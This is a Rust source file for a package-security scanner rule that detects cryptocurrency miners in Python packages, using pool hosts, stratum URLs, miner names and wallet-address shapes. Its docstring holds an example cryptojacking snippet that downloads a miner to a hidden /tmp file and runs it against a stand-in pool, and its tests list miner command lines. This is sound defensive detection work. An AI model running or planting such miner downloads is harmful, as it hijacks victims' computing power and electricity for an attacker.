use std::collections::BTreeSet;

use crate::finding::{Finding, Severity};
use crate::python::{Call, FileAnalysis, names};
use crate::rules::collection::{runs_by_itself, when};
use crate::rules::helpers::mining::{Marker, miner_marker};
use crate::rules::helpers::string_keywords;
use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule, string_finding};

declare_rule! {
    /// Cryptocurrency miners: mining-pool URLs and hosts, miner programs
    /// and their options, run, downloaded or written by the package.
    ///
    /// ## What it finds
    /// Strings (after constant evaluation, so command lines assembled at
    /// run time count) holding a stratum URL (`stratum+tcp://`,
    /// `stratum+ssl://`), a known mining-pool host (`supportxmr.com`,
    /// `nanopool.org`, `2miners.com`, `nicehash.com`, `moneroocean.stream`,
    /// …), a miner program (`xmrig`, `xmr-stak`, `nbminer`, `lolminer`,
    /// `phoenixminer`, `cpuminer`, …) or a miner option
    /// (`--donate-level`), and the process, download and file-write calls
    /// that carry them.
    ///
    /// ## Why it matters
    /// Cryptojacking packages download a miner and start it against the
    /// author's pool and wallet, spending the victim's CPU, GPU and power,
    /// often from `setup.py` or on import so that every install mines. A
    /// miner run, downloaded or written (a launcher script) by code that
    /// runs on import, at install or at interpreter start is critical, and
    /// high at runtime. A program started with a wallet address the code
    /// names (`-w dero1…`, `--user 4…`) is mining for the author: critical
    /// wherever it runs. The same strings in a file that runs processes,
    /// downloads to files or writes files are high when that code runs by itself
    /// and medium at runtime; in a file that does none of that they are
    /// medium or low (a pool's name in a wallet library's documentation).
    ///
    /// ## Example
    /// ```python
    /// import subprocess, urllib.request
    /// urllib.request.urlretrieve(MINER_URL, "/tmp/.cache-helper")
    /// subprocess.Popen(["/tmp/.cache-helper", "-o", "stratum+tcp://pool.example:3333",
    ///                   "-u", WALLET, "--donate-level", "1"])
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1496 (Resource Hijacking).
    pub struct CryptoMiner {
        id: "AY803",
        slug: "crypto-miner",
        category: Impact,
        severity: Critical,
    }
}

impl Rule for CryptoMiner {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            let mut seen = BTreeSet::new();
            let mut acted = BTreeSet::new();
            for call in &file.calls {
                let Some(verb) = action(call) else { continue };
                // A program told to work for a wallet the code names.
                let paid =
                    call.is_process() && call.arg_texts().any(|t| wallet_argument(t).is_some());
                // An HTTP call to a pool's host is its web API (statistics,
                // payouts); a download is a miner when it fetches the
                // program or a pool URL.
                let Some(marker) = call
                    .arg_texts()
                    .filter_map(miner_marker)
                    .find(|m| verb != "downloads" || !matches!(m, Marker::Pool(_)))
                    .or(paid.then_some(Marker::Wallet))
                else {
                    continue;
                };
                acted.insert(call.context);
                if !seen.insert((call.function.as_deref(), call.context)) {
                    continue;
                }
                let mut f = code_finding(
                    &Self::META,
                    file,
                    call,
                    format!(
                        "`{}` {verb} {} {}",
                        call.name,
                        marker.describe(),
                        when(file, call.context)
                    ),
                );
                // Mining for a wallet the author wrote in is the whole
                // chain: the victim's machine works for the author.
                f.severity = if paid || runs_by_itself(file, call.context) {
                    Severity::Critical
                } else {
                    Severity::High
                };
                f.decoded = call
                    .arg_texts()
                    .find(|t| miner_marker(t).is_some())
                    .map(crate::rules::preview);
                out.push(f);
            }
            // The strings, where no call above already carries them.
            let acts = file_acts(file);
            let mut strings_seen = BTreeSet::new();
            for s in &file.strings {
                if acted.contains(&s.context) {
                    continue;
                }
                let Some(marker) = string_keywords::miner_marker(s) else {
                    continue;
                };
                if !strings_seen.insert(s.context) {
                    continue;
                }
                let mut f = string_finding(
                    &Self::META,
                    file,
                    s,
                    format!(
                        "names {} {}{}",
                        marker.describe(),
                        when(file, s.context),
                        if acts {
                            ", in a file that runs processes or writes files"
                        } else {
                            ""
                        }
                    ),
                );
                f.severity = match (acts, runs_by_itself(file, s.context)) {
                    (true, true) => Severity::High,
                    (true, false) | (false, true) => Severity::Medium,
                    (false, false) => Severity::Low,
                };
                out.push(f);
            }
        }
    }
}

/// What a call does with its arguments that matters for a miner.
/// A cryptocurrency address given to a wallet or user option
/// (`-w dero1…`, `--user 4…`, `-u 0x…`): Monero, DERO, Ethereum-style and
/// Bitcoin bech32 addresses, by shape.
fn wallet_argument(command: &str) -> Option<&str> {
    const OPTIONS: &[&str] = &["-w", "--wallet", "-u", "--user", "-a", "--address"];
    let words: Vec<&str> = command.split_whitespace().collect();
    words.windows(2).find_map(|pair| {
        let (option, value) = (pair[0], pair[1].trim_matches(['"', '\'']));
        (OPTIONS.contains(&option) && is_wallet_address(value)).then_some(value)
    })
}

fn is_wallet_address(text: &str) -> bool {
    let base58 = |c: char| c.is_ascii_alphanumeric() && !matches!(c, '0' | 'O' | 'I' | 'l');
    let bech32 =
        |c: char| c.is_ascii_digit() || (c.is_ascii_lowercase() && !matches!(c, 'b' | 'i' | 'o'));
    let monero = (text.starts_with('4') || text.starts_with('8'))
        && (95..=106).contains(&text.len())
        && text.chars().all(base58);
    let dero = text
        .strip_prefix("dero1")
        .is_some_and(|r| r.len() >= 50 && r.chars().all(bech32));
    let bitcoin = text
        .strip_prefix("bc1")
        .is_some_and(|r| (25..=90).contains(&r.len()) && r.chars().all(bech32));
    let ethereum = text
        .strip_prefix("0x")
        .is_some_and(|r| r.len() == 40 && r.chars().all(|c| c.is_ascii_hexdigit()));
    monero || dero || bitcoin || ethereum
}

fn action(call: &Call) -> Option<&'static str> {
    let name = &call.name;
    if names::is_process(name) {
        Some("runs a command with")
    } else if names::is_network(name) || names::is_download_to_file(name) {
        Some("downloads")
    } else if name.is_attribute("write") || names::is_file_write(name) {
        Some("writes")
    } else {
        None
    }
}

/// Does the file run processes, download to files or write files? (Plain
/// HTTP calls do not count: a wallet library talks to the network.)
fn file_acts(file: &FileAnalysis) -> bool {
    file.calls.iter().any(|c| {
        let name = &c.name;
        names::is_process(name)
            || names::is_download_to_file(name)
            || name.is_attribute("write")
            || names::is_file_write(name)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wallet_arguments_by_shape() {
        let dero = format!("dero1{}", "q".repeat(60));
        assert!(wallet_argument(&format!("/tmp/x -r pool.example:80 -w {dero} -p rpc")).is_some());
        let xmr = format!("4{}", "A".repeat(94));
        assert!(wallet_argument(&format!("./w --user {xmr}")).is_some());
        assert!(wallet_argument(&format!("./w --user 0x{}", "a1".repeat(20))).is_some());
        // A user name, a width, a hash-like token: no wallet.
        assert!(wallet_argument("ssh -u deploy host").is_none());
        assert!(wallet_argument("convert -w 640 in.png").is_none());
        assert!(wallet_argument(&format!("tool -a {}", "f".repeat(64))).is_none());
    }

    #[test]
    fn markers() {
        for text in [
            "stratum+tcp://pool.example:3333",
            "-o stratum+ssl://randomxmonero.auto.nicehash.com:443 -u x",
            "./krot -o pool.supportxmr.com:443 -u 44Ab -k --tls",
            "https://github.com/xmrig/xmrig/releases/download/v6.17.0/xmrig-6.17.0-linux-x64.tar.gz",
            "C:\\Users\\x\\XMRig.exe --donate-level 1",
            "nbminer.exe -a kawpow",
        ] {
            assert!(miner_marker(text).is_some(), "{text}");
        }
        for text in [
            "The stratum protocol is described in the docs",
            "supportxmr",
            "pyminer",
            "mining the data",
            "https://example.com/nicehash-review",
            "https://api.nanopool.org/v1/xmr/balance/{}",
            "t-rex runner",
        ] {
            assert_eq!(miner_marker(text), None, "{text}");
        }
    }
}
